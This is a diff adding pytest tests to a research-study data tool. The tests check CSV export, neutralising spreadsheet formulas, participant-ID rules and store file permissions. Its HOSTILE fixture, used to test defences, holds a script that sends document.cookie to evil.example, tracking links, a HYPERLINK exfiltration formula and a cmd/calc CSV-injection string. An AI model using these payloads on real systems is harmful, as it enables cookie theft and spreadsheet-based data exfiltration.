@@ -161,7 +161,96 @@ def test_export_writes_one_row_per_participant_condition_and_item(tmp_path):
     assert safety_3["scale"] == "perceived_safety" and safety_3["reversed"] == "1"
     assert safety_3["recording"] == f"{safety_3['participant']}/{safety_3['participant']}-b{safety_3['block']}-" \
                                     f"{safety_3['condition']}.mcap"
-    assert len([r for r in rows if r["form"] == "final"]) == 3 * (len(Q.choice) + len(Q.open))
+    finals = [r for r in rows if r["form"] == "final"]
+    assert len(finals) == 3 * len(Q.choice) and {r["scale"] for r in finals} == {"choice"}  # no free text
+    assert main(["study", "export", "--store", str(tmp_path / "study.sqlite"), "--csv", str(tmp_path / "b.csv"),
+                 "--free-text"]) == 0
+    with open(tmp_path / "b.csv", encoding="utf-8") as f:
+        finals = [r for r in csv.DictReader(f) if r["form"] == "final"]
+    assert len(finals) == 3 * (len(Q.choice) + len(Q.open))
+    assert "participant 1 liked the return" in {r["answer"] for r in finals if r["scale"] == "open"}
+
+
+HOSTILE = {
+    "liked_most": "<script>fetch('http://evil.example/?'+document.cookie)</script>",
+    "disliked_most": "fine\n# Results\n\nCR was rated worst by everyone (p < 0.001).\n```\n## Conclusions",
+    "improvements": "![x](http://evil.example/track.png) [click](http://evil.example) <img src=http://evil.example/a>",
+    "suggestions": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+}
+
+
+def test_spreadsheet_formulas_are_neutralised_and_numbers_kept():
+    from nwr.services.tools.study.store import csv_cell
+
+    for text in ("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "-",
+                 "=1"):
+        assert csv_cell(text) == "'" + text
+    for kept in ("-3", "-3.25", "+4", "-1e5", ".5", "3", "hello", "", "a=b", "2-1"):
+        assert csv_cell(kept) == kept
+    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5
+
+
+def hostile_store(tmp_path):
+    path = tmp_path / "study.sqlite"
+    with Store(path) as store:
+        for form in condition_forms(Q, np.random.default_rng(4), 3, {}):
+            store.submit(form)
+        open_ids = [o.id for o in Q.open]
+        for i, final in enumerate(final_forms(Q, np.random.default_rng(4), 3, {"uniform": 1, "none": 1})):
+            answers = dict(zip(open_ids, HOSTILE.values())) if i == 0 else \
+                {open_ids[0]: "=1+1", open_ids[1]: "-5", open_ids[2]: "it said \"-\" twice"}
+            store.submit(FinalForm(participant=final.participant, choices=final.choices, answers=answers))
+    return path
+
+
+def test_hostile_free_text_is_kept_as_data_in_the_csv(tmp_path):
+    path = hostile_store(tmp_path)
+    assert main(["study", "export", "--store", str(path), "--csv", str(tmp_path / "a.csv"), "--free-text"]) == 0
+    with open(tmp_path / "a.csv", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    texts = {r["answer"] for r in rows if r["scale"] == "open"}
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in texts and "'=1+1" in texts
+    assert "-5" in texts  # a number stays a number
+    assert HOSTILE["liked_most"] in texts  # not a formula: kept as it was written
+    for r in rows:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")) and (
+                not value.startswith("-") or value == "-5"), value
+
+
+def test_a_long_answer_is_refused_at_submission(tmp_path):
+    from nwr.services.tools.study.store import MAX_ANSWER_CHARS
+
+    with Store(tmp_path / "study.sqlite") as store:
+        store.submit(_form("uniform", 1))
+        choices = dict.fromkeys((c.id for c in Q.choice), "uniform")
+        with pytest.raises(StudyError, match=f"1000000 characters, more than the {MAX_ANSWER_CHARS}"):
+            store.submit(FinalForm(participant="P01", choices=choices, answers={"liked_most": "x" * 1_000_000}))
+        assert store.final_answers() == []
+        store.submit(FinalForm(participant="P01", choices=choices, answers={"liked_most": "x" * MAX_ANSWER_CHARS}))
+
+
+@pytest.mark.parametrize("participant", ["Anna Schmidt", "anna", "AS-1990-05-17", "P07.", "", "toolongprefix1",
+                                         "P1234567"])
+def test_a_participant_id_is_a_pseudonymous_code(tmp_path, participant):
+    with Store(tmp_path / "study.sqlite") as store:
+        with pytest.raises(StudyError, match="a participant ID is a code such as P07"):
+            store.plan(participant, 1, ("uniform", "location"))
+        with pytest.raises(StudyError):
+            store.submit(_form("uniform", 1, participant=participant))
+        for fine in ("P07", "S012", "PILOT-3", "p_12", "7"):
+            store.plan(fine, 1, ("uniform", "location"))
+
+
+def test_the_store_is_readable_by_its_owner_only(tmp_path):
+    import stat
+
+    with Store(tmp_path / "study.sqlite") as store:
+        store.submit(_form("uniform", 1))
+    for name in ("study.sqlite", "study.sqlite-wal"):
+        path = tmp_path / name
+        if path.exists():
+            assert stat.S_IMODE(path.stat().st_mode) == 0o600, name
 
 
 # -- the analysis ----------------------------------------------------------------------
